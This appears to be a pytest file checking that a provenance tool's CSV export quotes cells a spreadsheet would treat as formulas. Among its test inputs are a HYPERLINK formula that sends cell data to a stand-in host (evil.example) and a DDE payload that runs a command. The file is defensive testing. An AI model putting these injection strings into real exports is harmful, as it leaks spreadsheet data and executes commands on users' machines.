"""What a spreadsheet would take for formulas stays text in a CSV file; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from typing import TYPE_CHECKING, Any

import pytest

import clew
from clew.show.export import encode
from clew.show.spreadsheet import as_cell
from store.build import StoreBuilder, row

if TYPE_CHECKING:
    from pathlib import Path


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1",
        "-",
        "\uff1d1+1",
    ],
)
def test_what_could_be_a_formula_is_a_text(text: str) -> None:
    assert as_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["-5", "+4912345", "-1.5e-3", "north", "a=b", "", "'x", " =1"])
def test_what_is_none_stays(text: str) -> None:
    assert as_cell(text) == text


def test_a_carriage_return_in_a_text_begins_no_row(tmp_path: Path) -> None:
    store = StoreBuilder(tmp_path)
    store.source("r")
    store.sink("out", ["r"])
    rows = {"out": [row(1, 1, n=1)], "r": [row(7, 0, c="x\r=1+1")]}
    store.batch("out", 0, edges=[("out", 1, 1, "r", 7, 0)], rows=rows)
    with clew.open(tmp_path) as prov:
        text = b"".join(encode(prov.backward("out", {"n": 1}), "csv")).decode()

    assert text.endswith(',"x\r=1+1"\n')


def test_cells_and_names_of_an_answer_are_written_so(tmp_path: Path) -> None:
    store = StoreBuilder(tmp_path)
    store.source("=r")
    store.sink("out", ["=r"])
    cells: dict[str, Any] = {"=c": "=1+1", "n": -5, "x": -2.5}
    rows = {"out": [row(1, 1, n=-1)], "=r": [row(7, 0, **cells)]}
    store.batch("out", 0, edges=[("out", 1, 1, "=r", 7, 0)], rows=rows)
    with clew.open(tmp_path) as prov:
        trace = prov.backward("out", {"n": -1})
        text = b"".join(encode(trace, "csv")).decode()
    [names, values] = csv.reader(io.StringIO(text))
    found = dict(zip(names, values, strict=True))

    assert not [each for each in (*names, *values) if each.startswith("=")]
    assert (found["'=c"], found["n"], found["x"]) == ("'=1+1", "-5", "-2.5")
